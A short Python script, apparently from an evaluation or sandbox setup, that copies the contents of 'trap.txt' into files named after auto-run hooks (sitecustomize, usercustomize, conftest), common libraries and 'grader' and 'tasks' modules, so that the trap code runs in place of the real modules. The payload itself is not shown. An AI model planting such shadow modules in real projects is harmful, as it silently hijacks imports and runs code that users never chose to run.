import os

with open("trap.txt") as file:
    trap = file.read()
for name in ("sitecustomize", "usercustomize", "conftest", "click", "grader", "tasks", "rich", "pexpect", "tomllib"):
    with open(name + ".py", "w") as file:
        file.write(trap)
